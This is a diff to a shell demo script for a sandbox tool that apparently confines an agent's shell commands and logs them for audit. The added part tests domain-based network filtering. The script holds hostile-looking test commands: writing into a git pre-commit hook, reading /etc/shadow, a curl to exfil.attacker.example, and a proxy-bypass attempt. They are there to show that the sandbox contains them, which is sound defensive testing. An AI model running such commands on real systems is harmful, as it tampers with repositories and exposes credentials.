@@ -44,6 +44,25 @@ call run_shell '{"program":"sh","args":["-c","echo pwned > .git/hooks/pre-commit
 call run_shell '{"program":"cat","args":["/etc/shadow"]}'
 call run_shell '{"program":"sh","args":["-c","grep -E \"NoNewPrivs|Seccomp:|CapEff\" /proc/self/status; ls /proc | grep -c \"^[0-9]\""]}'
 
+step "egress by domain (--network proxy): one allowed name, everything else refused and recorded"
+# A local server stands in for a documentation site; --resolve gives it a real-looking name.
+mkdir -p "$demo/site" && echo "cordon docs: hello from docs.example.test" > "$demo/site/index.html"
+python3 -m http.server --bind 127.0.0.1 0 --directory "$demo/site" > "$demo/http.log" 2>&1 &
+srv=$!
+trap 'kill $srv 2>/dev/null || true' EXIT
+port=""
+for _ in $(seq 50); do
+  port=$(sed -n 's/.*port \([0-9]*\).*/\1/p' "$demo/http.log" | head -1)
+  [ -n "$port" ] && break
+  sleep 0.1
+done
+net=(--workspace "$ws" --audit-log "$log" --allow-domain "docs.example.test:$port"
+     --resolve docs.example.test=127.0.0.1)
+"$C" exec "${net[@]}" -- curl -sS "http://docs.example.test:$port/" || true
+"$C" exec "${net[@]}" -- curl -sS -m 5 https://exfil.attacker.example/ || true
+"$C" exec "${net[@]}" -- curl -sS -m 5 "http://127.0.0.1:$port/" --noproxy '' -x http://127.0.0.1:3128 || true
+kill $srv 2>/dev/null || true
+
 step "audit log ($log)"
 "$C" audit show "$log"
 step "audit verify"
